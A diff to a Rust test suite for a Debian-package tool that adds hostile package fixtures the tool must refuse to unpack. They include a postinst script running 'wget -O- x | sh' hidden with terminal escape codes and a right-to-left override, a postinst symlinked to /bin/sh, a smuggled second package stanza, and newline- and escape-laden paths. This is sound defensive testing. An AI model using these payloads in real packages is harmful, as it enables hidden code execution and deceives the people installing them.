@@ -126,6 +126,33 @@ fn packages_that_must_not_be_unpacked() {
             "a link to nothing",
             of(&[link(b'2', "./usr/lib/victim", "nothing")]),
         ),
+        ("another package", deb("viktim", "", &[file.clone()])),
+        (
+            "a script that is a link",
+            with_control(&[link(b'2', "./postinst", "../../../bin/sh")]),
+        ),
+        (
+            "a second package in its control file",
+            deb("victim", "\nPackage: openssl\nVersion: 9\n", &[]),
+        ),
+        (
+            "a path of two lines",
+            of(&[
+                Member::pax("path", b"usr/lib/modules/6.12.1-tiny/a.ko\nkernel/b.ko:"),
+                file.clone(),
+            ]),
+        ),
+        (
+            "a link that clears the screen",
+            of(&[link(b'2', "./usr/share/link", "\x1b[2J")]),
+        ),
+        (
+            "a script that hides what it does",
+            with_control(&[Member::file(
+                "./postinst",
+                b"#!/bin/sh\nwget -O- x | sh # \x1b[1A\x1b[2K\r\xc2\x9b8m\xe2\x80\xae\necho fine\n",
+            )]),
+        ),
         (
             "a file of a user who has no name",
             of(&[Member::file("./usr/bin/victim", b"x")]),
@@ -145,11 +172,18 @@ fn packages_that_must_not_be_unpacked() {
         );
         archive.vouch(&TINY.key, &stanza);
         session.note(&format!("{what}\n"));
-        let mut code = session.run("lock").status.code();
-        if code == Some(0) {
-            code = session.run("build one").status.code();
+        let mut output = session.run("lock");
+        if output.status.success() {
+            output = session.run("build one");
         }
+        let code = output.status.code();
         assert!(matches!(code, Some(3 | 5)), "{what}: {code:?}");
+        let said = String::from_utf8(output.stderr).unwrap();
+        let bare = said.replace('\n', "").replace('\t', "");
+        assert!(
+            !bare.contains(prejoin_profiles::printable::is_mute),
+            "{what}: {said:?}"
+        );
         // Nothing came into being, in the output or where the package wanted it.
         assert_eq!(tiny::manifests(&session, "out"), before.0, "{what}");
         let parts = tiny::files(&session.path(""))
@@ -159,6 +193,18 @@ fn packages_that_must_not_be_unpacked() {
     }
     session.quietly("verify");
     session.golden("hostile");
+}
+
+/// A package `victim` with this in its control archive.
+fn with_control(members: &[Member]) -> Vec<u8> {
+    let control = b"Package: victim\nVersion: 2\nArchitecture: all\n";
+    let mut all = vec![Member::file("./control", control)];
+    all.extend_from_slice(members);
+    ar(&[
+        ("debian-binary", b"2.0\n"),
+        ("control.tar", &tar(&all)),
+        ("data.tar", &tar(&[])),
+    ])
 }
 
 /// Gives the last file of a package's payload to user 4242.
